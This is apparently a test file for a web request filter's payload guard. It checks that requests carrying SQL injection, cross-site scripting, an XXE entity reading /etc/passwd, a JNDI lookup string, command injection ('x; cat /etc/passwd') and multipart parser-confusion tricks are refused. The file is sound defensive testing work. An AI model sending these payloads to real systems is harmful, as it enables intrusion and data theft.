// The payload guard as a policy uses it: its options, its bounds, its evidence, and what it refuses to be given.

import { describe, expect, test } from 'vitest'

import { denials } from '../../shared/decision/denials.ts'
import type { Evidence } from '../../shared/decision/evidence.ts'
import type { Verdict } from '../../shared/core/guard.ts'
import { bodyOf } from '../../shared/exchange/body.ts'
import type { Exchange } from '../../shared/exchange/exchange.ts'
import { withBody } from '../../shared/exchange/with.ts'
import { payloadDocument } from '../../shared/guards/payload/document.ts'
import { payloadOptions } from '../../shared/guards/payload/options.ts'
import { payload } from '../../shared/guards/payload/payload.ts'
import { coreBytes } from '../corpora/program.ts'
import { payloadGuard } from '../corpora/guard.ts'
import { exchangeOf } from '../exchange/kit.ts'

const ATTACK = "' or 1=1--"

const FORM = 'application/x-www-form-urlencoded'

const post = (type: string, body: string | Uint8Array): Exchange =>
  withBody(
    exchangeOf({ method: 'POST', headers: [['content-type', type]] }),
    bodyOf(typeof body === 'string' ? new TextEncoder().encode(body) : body, type),
  )

const json = (value: unknown): Exchange => post('application/json', JSON.stringify(value))

const codeOf = (verdict: Verdict): string =>
  verdict.kind === 'deny' ? verdict.denial.code : verdict.kind === 'pass' ? 'passes' : verdict.fault.code

const evidenceOf = (verdict: Verdict): Evidence =>
  (verdict.kind === 'deny'
    ? verdict.denial.evidence
    : verdict.kind === 'pass'
      ? verdict.evidence
      : undefined) ?? {}

describe('what is refused, and with which code', () => {
  test.each<[string, Exchange, string]>([
    ['a clean GET', exchangeOf(), 'passes'],
    ['a clean body', json({ name: "O'Reilly and sons", note: 'select one or more' }), 'passes'],
    [
      'an attack in the query',
      exchangeOf({ url: `https://api.example.com/?q=${encodeURIComponent(ATTACK)}` }),
      'payload.rules',
    ],
    ['an attack in a key', json({ [ATTACK]: 1 }), 'payload.rules'],
    [
      'an attack in the last of many fields',
      json({ list: [...Array.from({ length: 500 }, (_, n) => `v${n}`), ATTACK] }),
      'payload.rules',
    ],
    [
      'a duplicate key, whichever the origin reads',
      post('application/json', `{"a":"${ATTACK}","a":"b"}`),
      'payload.rules',
    ],
    ['JSON lines', post('application/x-ndjson', '{"a":"b"}\n\n[1,"c"]\r\n'), 'passes'],
    [
      'an attack in a JSON line',
      post('application/x-ndjson', `{"a":"b"}\n{"a":"${ATTACK}"}`),
      'payload.rules',
    ],
    ['a JSON line that is none', post('application/jsonl', '{"a":"b"}\n{"a":}'), 'payload.malformed'],
    [
      'more fields than a body may have, over all lines',
      post('application/x-ndjson', '{"a":1,"b":2}\n'.repeat(8001)),
      'payload.bounds',
    ],
    ['JSON that is none', post('application/json', '{"a":1,}'), 'payload.malformed'],
    ['JSON with a comment', post('application/json', '{"a":1/**/}'), 'payload.malformed'],
    [
      'a form whose boundary is another to Go and Django (RFC 2231)',
      post("multipart/form-data; boundary=a; boundary*=utf-8''b", '--a--\r\n--b\r\nx\r\n--b--'),
      'payload.malformed',
    ],
    ...[
      `filename="a.txt"; filename*=utf-8''${encodeURIComponent(ATTACK)}`,
      `filename="${ATTACK}"; filename="a.txt"`,
      `filename="a.txt"; filename="${ATTACK}"`,
      `filename*0="${ATTACK}"; filename="a.txt"`,
    ].map((names): [string, Exchange, string] => [
      `an attack in one of two names: ${names}`,
      post(
        'multipart/form-data; boundary=a',
        `--a\r\nContent-Disposition: form-data; name="x"; ${names}\r\n\r\n1\r\n--a--`,
      ),
      'payload.rules',
    ]),
    [
      'a part behind the end, where PHP goes on',
      post(
        'multipart/form-data; boundary=a',
        '--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--a--\r\n--a\r\nContent-Disposition: form-data; name="y"\r\n\r\n2\r\n--a--\r\n',
      ),
      'payload.malformed',
    ],
    [
      'a part in front of the beginning',
      post(
        'multipart/form-data; boundary=a',
        '\n--a\nContent-Disposition: form-data; name="y"\n\n2\r\n--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--a--\r\n',
      ),
      'payload.malformed',
    ],
    ...[
      `name*=utf-8''${encodeURIComponent(ATTACK)}`,
      `name="x"; name*=utf-8''y`,
      'name="x"; name*0="a"; name*1="b"',
      'name="x"; name*0*=y',
    ].map((names): [string, Exchange, string] => [
      `a part whose name is another to Go (RFC 2231): ${names}`,
      post(
        'multipart/form-data; boundary=a',
        `--a\r\nContent-Disposition: form-data; ${names}\r\n\r\n1\r\n--a--`,
      ),
      'payload.malformed',
    ]),
    [
      'a file with a name in two forms, as libraries send it',
      post(
        'multipart/form-data; boundary=a',
        `--a\r\nContent-Disposition: form-data; name="x"; filename="menu.txt"; filename*=UTF-8''men%C3%BC.txt\r\n\r\n1\r\n--a--`,
      ),
      'passes',
    ],
    [
      'an attack in the pieces of a name',
      post(
        'multipart/form-data; boundary=a',
        `--a\r\nContent-Disposition: form-data; name="x"; filename*1="ipt src=//e.example/a>"; filename*0="<scr"\r\n\r\n1\r\n--a--`,
      ),
      'payload.rules',
    ],
    ['JSON in another charset', post('application/json; charset=utf-16', '{}'), 'payload.malformed'],
    ...['utf-7', 'UTF-16LE', 'windows-1252', 'utf-8,utf-7', 'x'].flatMap(
      (charset): [string, Exchange, string][] => [
        [
          `a form whose fields are in ${charset} (RFC 7578 §4.6)`,
          post(FORM, `a=1&_ch%61rset_=${charset}&b=2`),
          'payload.malformed',
        ],
        ['the last of its fields says so', post(FORM, `a=1&_CHARSET_=${charset}`), 'payload.malformed'],
        [
          `the same of multipart`,
          post(
            'multipart/form-data; boundary=a',
            `--a\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n${charset}\r\n--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--a--`,
          ),
          'payload.malformed',
        ],
        [
          'a field that says so of itself',
          post(
            'multipart/form-data; boundary=a',
            `--a\r\nContent-Disposition: form-data; name="x"\r\nContent-Type: text/plain; charset="${charset}"\r\n\r\n1\r\n--a--`,
          ),
          'payload.malformed',
        ],
      ],
    ),
    ...['', 'UTF-8', 'us-ascii', 'ISO-8859-1'].flatMap((charset): [string, Exchange, string][] => [
      [`what browsers send there: ${charset}`, post(FORM, `a=1&_charset_=${charset}`), 'passes'],
      [
        'in multipart',
        post(
          'multipart/form-data; boundary=a',
          `--a\r\nContent-Disposition: form-data; name="_charset_"\r\nContent-Type: text/plain; charset=${charset}\r\n\r\n${charset}\r\n--a--`,
        ),
        'passes',
      ],
    ]),
    [
      'a file in another charset, which stays as it is',
      post(
        'multipart/form-data; boundary=a',
        '--a\r\nContent-Disposition: form-data; name="x"; filename="a.csv"\r\nContent-Type: text/csv; charset=windows-1252\r\n\r\n1\r\n--a--',
      ),
      'passes',
    ],
    ['two charsets', post('application/json; charset=utf-8; charset=utf-7', '{}'), 'payload.malformed'],
    ['multipart without a boundary', post('multipart/form-data', 'x'), 'payload.malformed'],
    [
      'multipart that never ends',
      post('multipart/form-data; boundary=a', '--a\r\nContent-Disposition: form-data; name="x"\r\n\r\ny'),
      'payload.malformed',
    ],
    [
      'a part with a transfer encoding',
      post(
        'multipart/form-data; boundary=a',
        '--a\r\nContent-Disposition: form-data; name="x"\r\nContent-Transfer-Encoding: base64\r\n\r\neA==\r\n--a--',
      ),
      'payload.malformed',
    ],
    ['an empty body of any type', post('application/json', ''), 'passes'],
    [
      'an uploaded script',
      post(
        'multipart/form-data; boundary=a',
        '--a\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\nx\r\n--a--',
      ),
      'payload.rules',
    ],
    [
      'an uploaded image',
      post(
        'multipart/form-data; boundary=a',
        '--a\r\nContent-Disposition: form-data; name="f"; filename="x.png"\r\n\r\n\u0089PNG\r\n--a--',
      ),
      'passes',
    ],
    [
      'XML with an entity',
      post('application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
      'payload.rules',
    ],
    [
      'SOAP',
      post(
        'text/xml',
        '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><m:Get xmlns:m="https://example.com/x"><m:Id>7</m:Id></m:Get></s:Body></s:Envelope>',
      ),
      'passes',
    ],
    ['a body without a type that is JSON', post('', `{"a":"${ATTACK}"}`), 'payload.rules'],
    [
      'an attack split over a repeated parameter',
      exchangeOf({ url: 'https://api.example.com/?id=1 union select 1&id=2 from users--' }),
      'payload.rules',
    ],
    [
      'an attack split over a repeated field of a form',
      post('application/x-www-form-urlencoded', 'id=1+union+select+1&x=y&id=2+from+users--'),
      'payload.rules',
    ],
    [
      'a matrix parameter (RFC 3986 §3.3)',
      exchangeOf({ url: 'https://api.example.com/orders;id=7%20union%20select%20a,b%20from%20c/y' }),
      'payload.rules',
    ],
    [
      'a pair behind a semicolon of a query (CVE-2021-23336)',
      exchangeOf({ url: 'https://api.example.com/?b=1;id=7+union+select+a,b+from+c' }),
      'payload.rules',
    ],
    [
      'a pair behind a semicolon of a form',
      post('application/x-www-form-urlencoded', 'b=1;id=7+union+select+a,b+from+c'),
      'payload.rules',
    ],
    [
      'harmless matrix parameters',
      exchangeOf({ url: 'https://api.example.com/maps;zoom=7;center=47.3,8.5/tiles;v=2?style=a;b=c' }),
      'passes',
    ],
    [
      'a program that a document in a form shows has no pairs behind its semicolons',
      post(
        'application/x-www-form-urlencoded',
        new URLSearchParams({
          body: `${'We have used this for a long time, and it works well for all of us. '.repeat(2)}\n\n\`\`\`js\na(); b = "<script>c()</script>"\n\`\`\`\n`,
        }).toString(),
      ),
      'passes',
    ],
    [
      'JSON in JSON in base64',
      json({ a: btoa(JSON.stringify({ b: JSON.stringify({ c: ATTACK }) })) }),
      'payload.rules',
    ],
    ['full-width letters', json({ a: '＜script＞alert(1)＜/script＞' }), 'payload.rules'],
    ['a GraphQL argument', json({ query: '{ user(id: "1 or 1=1") { name } }' }), 'payload.rules'],
    [
      'a GraphQL block string',
      json({ query: 'mutation { note(text: """1; drop table x--""") { id } }' }),
      'payload.rules',
    ],
    [
      'a GraphQL query',
      json({ query: 'query Q($id: ID!) { user(id: $id, sort: "name") { name, posts(first: 10) { id } } }' }),
      'passes',
    ],
    [
      'a Basic credential',
      exchangeOf({ headers: [['authorization', `Basic ${btoa(`admin'--:x`)}`]] }),
      'payload.rules',
    ],
    [
      'an honest Basic credential',
      exchangeOf({ headers: [['authorization', `Basic ${btoa('ada:correct horse')}`]] }),
      'passes',
    ],
    [
      'a bearer token in compact form, whatever its parts hold',
      exchangeOf({
        headers: [
          [
            'authorization',
            `Bearer ${btoa('{"alg":"ES256"}')}.${btoa(`{"sub":"' or 1=1 --"}`).replace(/=+$/, '')}.${'A'.repeat(86)}`,
          ],
        ],
      }),
      'passes',
    ],
    [
      'what is no token in its place',
      exchangeOf({ headers: [['authorization', `Bearer ${'A'.repeat(20)}.' or 1=1--.${'A'.repeat(20)}`]] }),
      'payload.rules',
    ],
    [
      'an attack behind another scheme',
      exchangeOf({ headers: [['authorization', `Token ${'A'.repeat(20)} <script>alert(1)</script>`]] }),
      'payload.rules',
    ],
    [
      'JSON in a string, with white space around',
      json({ a: ` ${JSON.stringify({ b: '1 or 1=1' })}\n` }),
      'payload.rules',
    ],
    [
      'a scanner by its name',
      exchangeOf({ headers: [['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']] }),
      'payload.rules',
    ],
  ])('%s', (_name, exchange, code) => {
    expect(codeOf(payloadGuard()(exchange))).toBe(code)
  })
})

describe('equal values', () => {
  test('are refused in a field that an exclusion does not cover, though it covers the first', () => {
    const judge = payloadGuard({ exclusions: [{ tags: ['sqli'], fields: ['body.first'], reason: 'a test' }] })
    expect(codeOf(judge(json({ first: ATTACK })))).toBe('passes')
    expect(codeOf(judge(json({ first: ATTACK, second: ATTACK })))).toBe('payload.rules')
  })

  test('are refused as a URL to fetch, though the same URL is right where a client is sent back to', () => {
    const url = 'http://127.0.0.1:8080/callback'
    expect(codeOf(payloadGuard()(json({ redirect_uri: url })))).toBe('passes')
    expect(codeOf(payloadGuard()(json({ redirect_uri: url, webhook: url })))).toBe('payload.rules')
  })

  test('of a header that was clean once are judged again under another header', () => {
    const judge = payloadGuard()
    const attack = 'x; cat /etc/passwd'
    for (let run = 0; run < 3; run++)
      expect(
        codeOf(
          judge(
            exchangeOf({
              headers: [
                ['x-one', attack],
                ['user-agent', attack],
              ],
            }),
          ),
        ),
      ).toBe('payload.rules')
    expect(codeOf(judge(exchangeOf({ headers: [['user-agent', attack]] })))).toBe('payload.rules')
  })
})

/** Longer than a body may be here. */
const cut = (names: string, text: string): Exchange =>
  post(
    'multipart/form-data; boundary=a',
    `--a\r\nContent-Disposition: form-data; ${names}\r\n\r\n${text}${'x '.repeat(1000)}\r\n--a--`,
  )

describe('bounds', () => {
  const bounds = { bodyBytesMax: '1KiB', depth: 4, fields: 10 }
  const long = json({ a: 'x'.repeat(2000), b: ATTACK })
  const deep = json([[[[[ATTACK]]]]])
  const many = json([...Array.from({ length: 20 }, () => 'x'), ATTACK])
  const early = json([ATTACK, ...Array.from({ length: 2000 }, () => 'x')])

  test.each<[string, Exchange, Record<string, string>]>([
    ['too long', long, { refuse: 'payload.bounds', 'inspect-prefix': 'passes', pass: 'passes' }],
    ['too deep', deep, { refuse: 'payload.bounds', 'inspect-prefix': 'passes', pass: 'passes' }],
    ['too many', many, { refuse: 'payload.bounds', 'inspect-prefix': 'passes', pass: 'passes' }],
    [
      'too long, with an attack up front',
      early,
      { refuse: 'payload.bounds', 'inspect-prefix': 'payload.rules', pass: 'passes' },
    ],
  ])('%s', (_name, exchange, codes) => {
    for (const [over, code] of Object.entries(codes))
      expect(codeOf(payloadGuard({ bounds: { ...bounds, over } })(exchange)), over).toBe(code)
  })

  test('of a part of a form that is cut in two, what is within is judged', () => {
    const judge = payloadGuard({ bounds: { ...bounds, over: 'inspect-prefix' } })
    expect(codeOf(judge(cut('name="x"', `${ATTACK} `)))).toBe('payload.rules')
    expect(codeOf(judge(cut(`name="x"; name*=utf-8''y`, '')))).toBe('payload.malformed')
    expect(codeOf(judge(cut('name="x"', '')))).toBe('passes')
  })

  test('of a form that is cut, another charset is told, and half of a word is no other', () => {
    const judge = payloadGuard({ bounds: { ...bounds, over: 'inspect-prefix' } })
    expect(codeOf(judge(post(FORM, `_charset_=utf-7&a=${'x'.repeat(2000)}`)))).toBe('payload.malformed')
    expect(codeOf(judge(post(FORM, `a=${'x'.repeat(1008)}&_charset_=UTF-8&b=1`)))).toBe('passes')
    expect(
      codeOf(
        judge(cut('name="_charset_"', 'utf-7\r\n--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n')),
      ),
    ).toBe('payload.malformed')
    expect(codeOf(judge(cut('name="_charset_"', '')))).toBe('passes')
  })

  test.each(['inspect-prefix', 'pass'])('are told where the policy says %s, with what was found', (over) => {
    const told = (exchange: Exchange, own: object = {}): Verdict =>
      payloadGuard({ bounds: { ...bounds, ...own, over } })(exchange)
    const actual = long.body?.bytes.length
    const weak = 'see http://localhost:3000 for more'
    const work = { bodyBytesMax: '128KiB', workMs: 2 }
    const hard = 'it is (a) [b] {c}; d: e, f. Say "g", or `h`? i * j = k # l @ m! <n> & o | p; '
    const headers = Array.from({ length: 6 }, (_, n): [string, string] => [`x-${n}`, n + hard.repeat(33)])

    expect(told(long)).toEqual({ kind: 'pass', evidence: { reason: 'body-bytes', actual, bound: 1024 } })
    expect(told(deep)).toEqual({ kind: 'pass', evidence: { reason: 'depth', bound: 4 } })
    expect(told(many)).toEqual({ kind: 'pass', evidence: { reason: 'fields', bound: 10 } })
    for (const exchange of [json([hard.repeat(1000)]), exchangeOf({ headers })])
      expect(told(exchange, work)).toMatchObject({ kind: 'pass', evidence: { reason: 'work', bound: 2 } })
    expect(evidenceOf(told(json([weak, [[[[[1]]]]]])))).toMatchObject({
      reason: 'depth',
      hits: [{ rule: 'ssrf-internal' }],
    })
    expect(told(json({ a: 'b' }))).toEqual({ kind: 'pass' })
  })

  test('say which one was met', () => {
    const verdict = payloadGuard({ bounds })(long)
    expect(evidenceOf(verdict)).toMatchObject({ reason: 'body-bytes', bound: 1024 })
    expect(evidenceOf(payloadGuard({ bounds })(deep))).toMatchObject({ reason: 'depth', bound: 4 })
  })
})

const guardOf = (options: Record<string, unknown>): ReturnType<typeof payload> =>
  payload(payloadOptions.parse(options), {
    issuers: new Map(),
    lists: new Map(),
    programs: new Map([['core', coreBytes()]]),
    modules: new Map(),
    route: 'orders',
    place: 0,
  })

describe('a flood', () => {
  test('of weak findings does not push a strong one out of the account', () => {
    const weak = 'see http://localhost:3000 and ../x and '.repeat(200)
    expect(codeOf(payloadGuard()(json({ a: weak })))).toBe('passes')
    expect(codeOf(payloadGuard()(json({ a: `${weak} ${ATTACK}` })))).toBe('payload.rules')
  })

  test('of fields with weak findings does not either', () => {
    const weak = Array.from({ length: 300 }, (_, n) => `see http://localhost:${n} for more`)
    expect(codeOf(payloadGuard()(json([...weak, ATTACK])))).toBe('payload.rules')
  })
})

describe('options', () => {
  test('head alone needs no body, and body alone leaves the head to another guard', () => {
    expect(guardOf({ parts: ['head'] }).reads).toBe('head')
    expect(guardOf({ parts: ['body'] }).reads).toBe('body')
    expect(guardOf({}).reads).toBe('body')
    const both = withBody(
      exchangeOf({ method: 'POST', url: `https://api.example.com/?q=${encodeURIComponent(ATTACK)}` }),
      undefined,
    )
    expect(codeOf(payloadGuard({ parts: ['body'] })(both))).toBe('passes')
    expect(codeOf(payloadGuard({ parts: ['head'] })(json({ a: ATTACK })))).toBe('passes')
  })

  test('a closed type is checked and not searched; an open one has some rules step aside', () => {
    const types = [
      { field: 'body.id', type: 'uuid' },
      { field: 'body.age', type: 'integer' },
      { field: 'body.state', type: 'enum', values: ['on', 'off'] },
      { field: 'body.at', type: 'datetime' },
      { field: 'body.code', type: 'code' },
    ]
    const judge = payloadGuard({ types })
    const code = (value: unknown): string => codeOf(judge(json(value)))
    expect(
      code({ id: '5b8d3b1e-8ee5-4dd4-9c2a-3f8a2f3b7a11', age: 7, state: 'on', at: '2026-11-22T05:31:20Z' }),
    ).toBe('passes')
    for (const wrong of [
      { id: 'x' },
      { age: 'seven' },
      { age: 7.5 },
      { state: 'maybe' },
      { at: 'now' },
      { id: 7 },
    ])
      expect(code(wrong), JSON.stringify(wrong)).toBe('payload.rules')
    expect(code({ code: 'drop table users; -- now' })).toBe('passes')
    expect(code({ code: '${jndi:ldap://e.example/a}' })).toBe('payload.rules')
    expect(code({ other: '1; drop table users; --' })).toBe('payload.rules')
  })

  test('a higher sensitivity refuses what a lower one only records', () => {
    const weak = json({ a: 'see http://localhost:3000 for more' })
    const first = payloadGuard({ sensitivity: 1 })(weak)
    expect(codeOf(first)).toBe('passes')
    expect(evidenceOf(first).hits?.[0]?.rule).toBe('ssrf-internal')
    expect(codeOf(payloadGuard({ sensitivity: 4 })(weak))).toBe('payload.rules')
  })

  test('a malformed body may be judged as text instead', () => {
    const judge = payloadGuard({ malformed: 'pass' })
    expect(codeOf(judge(post('application/json', '{"a":1,}')))).toBe('passes')
    expect(codeOf(judge(post('application/json', `{"a":"${ATTACK}",}`)))).toBe('payload.rules')
  })

  test.each<[string, unknown]>([
    ['an unknown option', { rule: 'core' }],
    ['a sensitivity of 5', { sensitivity: 5 }],
    ['a size without a unit', { bounds: { bodyBytesMax: 1024 } }],
    ['an exclusion without a reason', { exclusions: [{ rules: ['sqli-union'] }] }],
    ['an exclusion of nothing', { exclusions: [{ reason: 'because' }] }],
    ['an enum without values', { types: [{ field: 'a', type: 'enum' }] }],
    ['no part at all', { parts: [] }],
  ])('%s is refused by the build', (_name, options) => {
    expect(payloadOptions.safeParse(options).success).toBe(false)
  })

  test('what is legal and probably not meant is warned of', () => {
    const options = payloadOptions.parse({
      bounds: { over: 'pass' },
      types: [
        { field: 'body.a', type: 'uuid' },
        { field: 'body.a', type: 'text' },
      ],
      exclusions: [
        { tags: ['sqli'], reason: 'x' },
        { rules: ['sqli-union'], reason: 'x' },
        { rules: ['sqli-union'], fields: ['body.a'], reason: 'x' },
      ],
    })
    const codes = payloadDocument
      .lint(options, { kinds: ['payload', 'payload'], place: 1 })
      .map(({ code }) => code)
    expect(codes.toSorted()).toEqual([
      'exclusion-too-wide',
      'exclusion-unused',
      'payload-blind-tail',
      'payload-head-twice',
      'type-unused',
    ])
  })
})

describe('evidence', () => {
  test('names the rule, the field, the place and the points, and masks the text', () => {
    const verdict = payloadGuard()(json({ items: [{ note: `my secret is hunter2 ${ATTACK}` }] }))
    const hit = evidenceOf(verdict).hits?.[0]
    expect(hit).toMatchObject({ rule: 'sqli-boolean', field: 'body.items[0].note', score: 5 })
    expect(JSON.stringify(evidenceOf(verdict))).not.toContain('hunter2')
    expect(JSON.stringify(evidenceOf(verdict))).not.toContain('secret')
  })

  test('says what had to be reached, and which hit is none by itself', () => {
    const refused = evidenceOf(payloadGuard()(json({ a: ATTACK })))
    expect(refused.score).toBeGreaterThanOrEqual(5)
    expect([refused.bound, refused.hits?.[0]?.weak]).toEqual([5, undefined])
    const strict = evidenceOf(payloadGuard({ sensitivity: 4 })(json({ role: 'admin' })))
    expect([strict.bound, strict.hits?.[0]?.weak]).toEqual([2, true])
  })

  test('keeps what decided, however many notices come before it', () => {
    const flood = Array.from({ length: 200 }, (_, n) => ({ [`r${n}`]: 'http://localhost:3000/callback' }))
    const { hits } = evidenceOf(payloadGuard()(json([...flood, { last: ATTACK }])))
    expect(hits).toHaveLength(64)
    expect(hits?.some(({ field, rule }) => field === 'body[200].last' && rule.startsWith('sqli'))).toBe(true)
  })

  test('bounds and cleans the names that the client chose', () => {
    const verdict = payloadGuard()(json({ [`\u001b[31m${'n'.repeat(500)}`]: ATTACK }))
    const field = evidenceOf(verdict).hits?.[0]?.field ?? ''
    expect(field.length).toBeLessThan(120)
    expect(field).toMatch(/^[\x20-\x7e…]+$/)
  })

  test('has codes that the catalogue knows', () => {
    for (const code of ['payload.rules', 'payload.malformed', 'payload.bounds'])
      expect(Object.hasOwn(denials, code)).toBe(true)
  })
})
